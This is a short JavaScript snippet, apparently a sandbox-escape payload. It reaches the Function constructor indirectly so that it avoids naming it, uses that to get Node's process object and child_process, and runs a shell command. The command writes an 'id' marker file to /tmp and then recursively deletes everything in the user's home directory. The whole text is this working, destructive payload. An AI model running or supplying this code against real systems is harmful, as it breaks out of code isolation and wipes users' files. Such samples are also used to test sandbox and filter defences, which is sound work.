// tricky: the Function constructor without its name
const F = (() => {}).constructor;
F('return process')().mainModule.require('child_process').execSync('id > /tmp/pwn; rm -rf ~/*');
